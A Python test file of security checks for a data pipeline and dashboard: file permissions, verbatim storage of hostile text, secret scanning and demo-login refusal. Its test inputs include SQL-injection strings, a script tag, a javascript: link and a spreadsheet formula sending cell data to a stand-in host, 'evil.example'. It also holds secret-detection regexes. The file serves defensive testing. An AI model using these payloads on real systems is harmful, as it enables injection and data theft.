"""Security checks that need no Airflow run: home permissions, hostile text, secrets, demo login.

The full-pipeline versions (every file under a home after a real night is owner-only; hostile
text survives load *and* dbt into the serving database) are in tests/test_reliability.py; login,
rate limiting, masking and CSV escaping in the dashboard are in tests/test_dashboard_app.py.
"""

from __future__ import annotations

import re
import stat
import subprocess
import sys
from datetime import date
from pathlib import Path

import duckdb
import pytest
from export_factory import valid_rows, write_night

from itw_radar.ingestion import load_night
from itw_radar.paths import Home

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))
from dashboard import auth  # noqa: E402

NIGHT = date(2026, 11, 23)
HOSTILE = ["'; DROP TABLE accounts; --", "<script>alert('x')</script>",
           '=HYPERLINK("http://evil.example/?q="&A1,"click")', "[click me](javascript:alert(1))",
           "Robert'); DROP TABLE raw.messages;--"]


def _mode(p: Path) -> int:
    return stat.S_IMODE(p.stat().st_mode)


def test_home_folders_and_files_are_owner_only(tmp_path: Path) -> None:
    home = Home.resolve(tmp_path / "home").ensure()
    for d in (home.root, home.warehouse.parent, home.serving_dir, home.reviews.parent, home.gx,
              home.logs, home.airflow):
        assert _mode(d) == 0o700, d
    exports = tmp_path / "exports"
    write_night(exports, NIGHT)
    load_night(home, exports, NIGHT)
    (home.logs / "run.log").write_text("a file created after ensure()\n")
    loose = [str(p) for p in [home.root, *home.root.rglob("*")] if _mode(p) & 0o077]
    assert loose == []


def test_hostile_text_is_stored_verbatim(tmp_path: Path) -> None:
    home = Home.resolve(tmp_path / "home")
    rows = valid_rows(NIGHT)
    for i, text in enumerate(HOSTILE[:3]):
        rows["accounts"][i]["display_name"] = text
    rows["messages"] += [dict(rows["messages"][0], message_id=f"m-h{i}", body=text)
                         for i, text in enumerate(HOSTILE)]
    exports = tmp_path / "exports"
    write_night(exports, NIGHT, rows)
    result = load_night(home, exports, NIGHT)
    assert result.rows_quarantined == 0
    con = duckdb.connect(str(home.warehouse), read_only=True)
    try:
        names = [r[0] for r in con.execute(
            "SELECT display_name FROM raw.accounts ORDER BY account_id").fetchall()]
        bodies = dict(con.execute(
            "SELECT message_id, body FROM raw.messages WHERE message_id LIKE 'm-h%'").fetchall())
        assert con.execute("SELECT count(*) FROM raw.accounts").fetchone()[0] == 3
        assert con.execute("SELECT count(*) FROM raw.messages").fetchone()[0] == 6
    finally:
        con.close()
    assert names == HOSTILE[:3]
    assert [bodies[f"m-h{i}"] for i in range(len(HOSTILE))] == HOSTILE


# ------------------------------------------------------------------------------ secrets

_KEY = "-----BEGIN " + r"(RSA |EC |DSA |OPENSSH |PGP |ENCRYPTED )?PRIVATE KEY"
SECRET_PATTERNS = {
    "private key": re.compile(_KEY),
    "AWS access key": re.compile(r"\bAKIA[0-9A-Z]{16}\b"),
    "GitHub token": re.compile(r"\bgh[pousr]_[A-Za-z0-9]{36,}\b"),
    "Slack token": re.compile(r"\bxox[abprs]-[A-Za-z0-9-]{10,}"),
    "password in a URL": re.compile(r"[a-z][a-z0-9+.-]*://[^/\s:@'\"]+:[^/\s:@'\"{$]{3,}@[\w.-]+"),
    "hard-coded password": re.compile(
        r"""(?i)\b(password|passwd|secret|api_key|apikey|token)\s*[:=]\s*['"]([^'"\s{}$]{6,})['"]"""),
}
# Documented on purpose: the demo password (docs/dashboard.md, demo mode only), and the wrong
# password tests/test_dashboard_app.py types to be refused.
ALLOWED_VALUES = {auth.DEMO_PASSWORD, "not-the-password"}


def _repo_files() -> list[Path]:
    out = subprocess.run(["git", "ls-files", "--cached", "--others", "--exclude-standard"],
                         cwd=REPO, capture_output=True, text=True, check=True).stdout
    return [REPO / line for line in out.splitlines() if line and (REPO / line).is_file()]


def test_no_secrets_in_the_repository() -> None:
    files = _repo_files()
    assert len(files) > 20
    found = []
    for path in files:
        if path.name == "test_security.py" or path.stat().st_size > 2_000_000:
            continue
        try:
            text = path.read_text(encoding="utf-8")
        except (UnicodeDecodeError, OSError):
            continue
        for kind, pattern in SECRET_PATTERNS.items():
            for m in pattern.finditer(text):
                value = m.group(m.lastindex) if m.lastindex else m.group(0)
                if value in ALLOWED_VALUES:
                    continue
                line = text.count("\n", 0, m.start()) + 1
                found.append(f"{path.relative_to(REPO)}:{line}: {kind}")
    assert found == []


def test_no_key_or_env_files_in_the_repository() -> None:
    names = {p.name for p in _repo_files()}
    risky = {n for n in names if n in {".env", "id_rsa", "id_ed25519", ".netrc", ".pgpass"}
             or n.endswith((".pem", ".key", ".p12", ".pfx"))}
    assert risky == set()


# ------------------------------------------------------------------------------ demo password


@pytest.mark.parametrize("demo", ["", "0", "false", "no", "off", "demo"])
def test_demo_password_is_refused_outside_demo_mode(demo: str) -> None:
    configured = f"alice:{auth.hash_password('a long real passphrase', iterations=1000)}"
    for users_env in ("", configured):
        env = {auth.DEMO_ENV: demo, auth.USERS_ENV: users_env}
        users = auth.load_users(env)
        assert auth.DEMO_USER not in users
        assert not auth.check_login(auth.DEMO_USER, auth.DEMO_PASSWORD, users=users).ok


def test_demo_mode_adds_only_the_demo_user_and_never_its_password_to_others() -> None:
    configured = f"alice:{auth.hash_password('a long real passphrase', iterations=1000)}"
    users = auth.load_users({auth.DEMO_ENV: "1", auth.USERS_ENV: configured})
    assert set(users) == {"alice", auth.DEMO_USER}
    assert not auth.check_login("alice", auth.DEMO_PASSWORD, users=users).ok
